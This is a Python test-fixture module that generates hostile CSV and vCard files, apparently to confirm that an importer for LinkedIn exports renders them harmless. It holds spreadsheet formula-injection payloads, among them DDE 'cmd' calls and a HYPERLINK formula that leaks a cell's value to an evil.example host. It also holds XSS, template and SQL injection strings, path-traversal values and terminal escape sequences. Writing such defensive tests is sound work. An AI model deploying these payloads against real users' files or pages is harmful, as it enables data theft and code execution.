"""Tables that must come out inert: formulas, markup, invisible signs, broken encodings, broken quotes."""

from __future__ import annotations

from data_samples.invent.linkedin import CONNECTIONS, MESSAGES, PREAMBLE
from data_samples.invent.write import table

Row = tuple[str, str, str, str, str, str, str]
_DAY = "17 Feb 2026"

FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"Anna")',
    "+SUM(A1:A9)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    ";=1+1",
    '"=1+1',
    "%0A=1+1",
    '=WEBSERVICE("http://evil.example")',
)
SCRIPTS = (
    "<script>window.__hit=1</script>",
    "<img src=x onerror=window.__hit=1>",
    "<svg/onload=window.__hit=1>",
    "</script><script>window.__hit=1</script>",
    '"><b onmouseover=window.__hit=1>x</b>',
    "'-window.__hit=1-'",
    '<a href="javascript:window.__hit=1">Anna</a>',
    "[Anna](javascript:window.__hit=1)",
    "![x](http://evil.example/pixel.png)",
    "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
    '<iframe srcdoc="<script>parent.__hit=1</script>"></iframe>',
    "<!--<script>",
    "&lt;script&gt;window.__hit=1&lt;/script&gt;",
    "<style>*{background:url(http://evil.example)}</style>",
    "`window.__hit=1`",
    "| a | b |\\n|---|---|",
)
INVISIBLE = (
    "An\u200bna",
    "\ufeffAnna",
    "\u202eannA\u202c",
    "\u2066Anna\u2069",
    "An\u00adna",
    "Anna\u00a0Maria",
    "An\u0000na",
    "\u001b[31mAnna\u001b[0m",
    "\u001b]8;;http://evil.example\u0007Anna\u001b]8;;\u0007",
    "An\u0008\u0008\u0008Bob",
    "Anna\u2028Maria",
    "A\u0301\u0301\u0301\u0301nna",
    "Anna\U000e0041\U000e0042",
    "   Anna   ",
)
NAMES: tuple[tuple[str, str, str], ...] = (
    ("Null", "NULL", "NA"),
    ("True", "False", "nan"),
    ("None", "undefined", "N/A"),
    ("007", "1e5", "007"),
    ("Robert'); DROP TABLE people;--", "Tables", "Tisch & Söhne"),
    ("אברהם", "כהן", "חברה"),
    ("محمد", "السيد", "شركة"),
    ("Anna", "O'Neill-d'Arc", 'O"Brien" Ltd'),
    ("ANNA", "SCHMIDT, PH.D., MBA", "../../etc/passwd"),
    ("Anna", "Meyer", "CON"),
    ("Anna", "Meyer", "Aux GmbH"),
    ("🦊", "🌲", "🏢"),
    ("X", "", "One Letter Ltd"),
    ("", "Onlylast", ""),
    ("李", "雷", "株式会社"),
    ("Ωmega", "Ångström", "ﬁligree"),
    ("a" * 300, "b" * 300, "c" * 300),
)


# Persons that a load of each table ends with; in nameless.csv two more rows are hidden and one is empty, in
# unclosed_quote.csv one more is unreadable.
EXPECTED_PEOPLE = {
    "formulas.csv": len(FORMULAS),
    "scripts.csv": len(SCRIPTS),
    "invisible.csv": len(INVISIBLE),
    "links.csv": 12,
    "dates.csv": 10,
    "names.csv": len(NAMES),
    "nameless.csv": 3,
    "cr_only.csv": 3,
    "cp1252.csv": 3,
    "mixed_encoding.csv": 3,
    "utf16.csv": 3,
    "german_semicolon.csv": 2,
    "unclosed_quote.csv": 8,
    "ragged.csv": 4,
    "duplicate_columns.csv": 1,
    "long_preamble.csv": 3,
    "header_only.csv": 0,
    "huge_field.csv": 1,
}


def hostile_rows() -> list[Row]:
    """Return Connections rows in which every field in turn holds each payload."""
    rows: list[Row] = []
    for payload in (*FORMULAS, *SCRIPTS, *INVISIBLE):
        number = len(rows) + 1
        rows.append((payload, f"First{number}", url(f"first-{number}"), "", "Company", "Title", _DAY))
        rows.append((f"Last{number}", payload, url(f"last-{number}"), "", "Company", "Title", _DAY))
        rows.append((f"Company{number}", "Test", url(f"company-{number}"), "", payload, "Title", _DAY))
        rows.append((f"Title{number}", "Test", url(f"title-{number}"), "", "Company", payload, _DAY))
        rows.append((f"Mail{number}", "Test", url(f"mail-{number}"), payload, "Company", "Title", _DAY))
        rows.append((f"Link{number}", "Test", payload, "", "Company", "Title", _DAY))
        rows.append((f"Day{number}", "Test", url(f"day-{number}"), "", "Company", "Title", payload))
    return rows


def url(words: str) -> str:
    """Return a profile address that no real member has."""
    return f"https://www.linkedin.com/in/{words}-demo00000"


def _connections(rows: list[Row], *, preamble: str = PREAMBLE) -> str:
    return preamble + table(CONNECTIONS, rows)


def _in_field(payloads: tuple[str, ...], start: int = 0) -> str:
    """Return a table in which the payloads stand in first name, company and position by turns."""
    rows: list[Row] = []
    for number, payload in enumerate(payloads, start + 1):
        cells = ["Anna", f"Test{number}", url(f"test-{number}"), "", "Company", "Title", _DAY]
        cells[(0, 4, 5)[number % 3]] = payload
        first, last, link, email, company, title, day = cells
        rows.append((first, last, link, email, company, title, day))
    return _connections(rows)


def _links() -> str:
    addresses = (
        "javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "https://evil.example/in/anna-demo00000",
        "https://www.linkedin.com.evil.example/in/anna-demo00000",
        "https://www.linkedin.com@evil.example/in/anna-demo00000",
        "file:///etc/passwd",
        "//evil.example/in/anna",
        "https://www.linkedin.com/in/..%2f..%2fadmin-demo00000",
        "https://www.linkedin.com/in/%3Cscript%3E-demo00000",
        "https://www.linkedin.com/in/100%-demo00000",
        "HTTPS://WWW.LINKEDIN.COM/IN/ANNA-DEMO00000/",
        "de.linkedin.com/in/anna-zwei-demo00000/de?trk=x#top",
    )
    return _connections([("Anna", f"Link{n}", one, "", "Company", "Title", _DAY) for n, one in enumerate(addresses, 1)])


def _dates() -> str:
    days = (
        "07 Sep 2019",
        "7-Sep-19",
        "31 Feb 2020",
        "00 Jan 2020",
        "17 Feb 9999",
        "99999999999999999999",
        "=TODAY()",
        "",
        "2019-09-07T10:11:12.123Z",
        "Sept. 7, 2019",
    )
    return _connections(
        [("Anna", f"Day{n}", url(f"day-{n}"), "", "Company", "Title", one) for n, one in enumerate(days, 1)]
    )


def _names() -> str:
    return _connections(
        [(first, last, url(f"name-{n}"), "", company, "Title", _DAY) for n, (first, last, company) in enumerate(NAMES)]
    )


def _nameless() -> str:
    rows: list[Row] = [
        ("", "", "", "nobody@example.com", "Company", "Title", _DAY),
        ("", "", url("nameless"), "", "Company", "Title", _DAY),
        ("", "", "", "", "", "", "16 Feb 2026"),
        ("", "", "", "", "Company only", "", ""),
        ("Anna", "Test", "", "", "", "", ""),
        ("", "", "", "", "", "", ""),
    ]
    return _connections(rows)


_PLAIN: list[Row] = [
    ("Jörg", "Müller", url("joerg-mueller"), "", "Bäckerei Groß", "Geschäftsführer", _DAY),
    ("Zoë", "Brontë", url("zoe-bronte"), "", "Café Noir", "Head Chef", "16 Feb 2026"),
    ("Anna", "Test", url("anna-test"), "anna@example.com", "Company", "Title", "15 Feb 2026"),
]


def _tabs(rows: list[Row]) -> str:
    return "".join("\t".join(cells) + "\n" for cells in [CONNECTIONS.split(","), *map(list, rows)])


def _mixed() -> bytes:
    lines = _connections(_PLAIN).splitlines(keepends=True)
    return b"".join(line.encode("cp1252" if "Müller" in line else "utf-8") for line in lines)


def _german() -> str:
    head = "Vorname;Nachname;URL;E-Mail-Adresse;Unternehmen;Position;Verbunden am\n"
    rows = (
        "Jörg;Müller;https://www.linkedin.com/in/joerg-demo00000;;Bäckerei Groß;Geschäftsführer;17. März 2021\n",
        'Anna;Test;https://www.linkedin.com/in/anna-test-demo00000;;=1+1;"Leiterin; Einkauf";09. Mai 2019\n',
    )
    return head + "".join(rows)


def _unclosed() -> str:
    good = [("Anna", f"After{n}", url(f"after-{n}"), "", "Company", "Title", _DAY) for n in range(1, 9)]
    bad = f'Anna,"Open,{url("open")},,Company,Title,{_DAY}\n'
    lines = _connections(good).splitlines(keepends=True)
    return "".join([*lines[:7], bad, *lines[7:]])


def _ragged() -> str:
    head = PREAMBLE + CONNECTIONS + "\n"
    return head + (
        f"Anna,Short,{url('short')}\n"
        f"Anna,Long,{url('long')},,Company,Title,{_DAY},more,and more\n"
        f"Anna,Trailing,{url('trailing')},,Company,Title,{_DAY},,,\n"
        "Anna\n"
    )


def _duplicate_columns() -> str:
    rows = [["Anna", "Test", url("anna-test"), "", "Company", "Title", _DAY, "Another", "=1+1"]]
    return table(f"{CONNECTIONS},Company,First Name", rows)


def _long_preamble() -> str:
    notes = "".join(f'"Note {number}, with a comma",,,,,,\n' for number in range(1, 12))
    return f'"Notes:",,,,,,\n{notes}\n\n{table(CONNECTIONS, _PLAIN)}'


def huge_field(size: int) -> bytes:
    """Return a Connections table whose only position is `size` letters long."""
    return _connections([("Anna", "Huge", url("huge"), "", "Company", "x" * size, _DAY)]).encode()


def hostile_tables() -> dict[str, bytes]:
    """Return single files, in the order in which they are listed in the README of the sample."""
    return {
        "formulas.csv": _in_field(FORMULAS).encode(),
        "scripts.csv": _in_field(SCRIPTS, 100).encode(),
        "invisible.csv": _in_field(INVISIBLE, 200).encode(),
        "links.csv": _links().encode(),
        "dates.csv": _dates().encode(),
        "names.csv": _names().encode(),
        "nameless.csv": _nameless().encode(),
        "cr_only.csv": _connections(_PLAIN).replace("\n", "\r").encode(),
        "cp1252.csv": _connections(_PLAIN).encode("cp1252"),
        "mixed_encoding.csv": _mixed(),
        "utf16.csv": b"\xff\xfe" + _tabs(_PLAIN).encode("utf-16-le"),
        "german_semicolon.csv": _german().encode(),
        "unclosed_quote.csv": _unclosed().encode(),
        "ragged.csv": _ragged().encode(),
        "duplicate_columns.csv": _duplicate_columns().encode(),
        "long_preamble.csv": _long_preamble().encode(),
        "header_only.csv": _connections([]).encode(),
        "huge_field.csv": huge_field(20_000),
        "messages_2025.csv": _drafts().encode(),
        "contacts.vcf": _cards().encode(),
    }


def _drafts() -> str:
    """Return the thirteen columns of 2025: one direct message each way, two drafts, spam, an advertisement, nobody."""
    me, anna = ["Vera Probst", url("vera-probst")], ["Anna Test", url("anna-test")]
    quill = '<p class="spinmail-quill-editor__spin-break">Hi %FIRSTNAME%</p>'
    rows = [
        ["2-a==", "", *me, *anna, "2026-01-05 10:00:00 UTC", "", "Hello & <b>good</b> day", "INBOX", "", "No", "No"],
        ["2-a==", "", *anna, *me, "2026-01-05 10:09", "", "=1+1", "INBOX", "", "No", "No"],
        ["2-a==", "", *me, *anna, "2026-01-06 10:00 UTC", "", "never sent", "INBOX", "", "Yes", "No"],
        ["2-b==", "", *me, *anna, "2026-01-07 10:00 UTC", "", "never sent", "INBOX", "", "No", "TRUE"],
        ["2-c==", "", "Prize", url("prize"), *me, "2026-01-08 10:00 UTC", "", "You won", "SPAM", "", "No", "No"],
        ["2-d==", "", "Expo Cloud", "", *me, "2026-01-09 10:00 UTC", "", quill, "INBOX", "", "No", "No"],
        ["2-e==", "", "LinkedIn Member", "", *me, "2026-01-10 10:00 UTC", "", "Hello", "INBOX", "", "No", "No"],
    ]
    return table(f"{MESSAGES},IS MESSAGE DRAFT,IS CONVERSATION DRAFT", rows)


def _cards() -> str:
    bad = "BEGIN:VCARD\r\nVERSION:3.0\r\nthis is no property\r\nN:=1+1;<b>Anna</b>;;;\r\nORG:../..;\r\nEND:VCARD\r\n"
    folded = (
        "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Anna\r\n  Test\r\nEMAIL:anna@example.com\r\n"
        "NOTE:<script>window.__hit=1</script>\\n=1+1\r\nURL:javascript:alert(1)\r\nEND:VCARD\r\n"
    )
    return bad + folded + "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Never Ended\r\n"
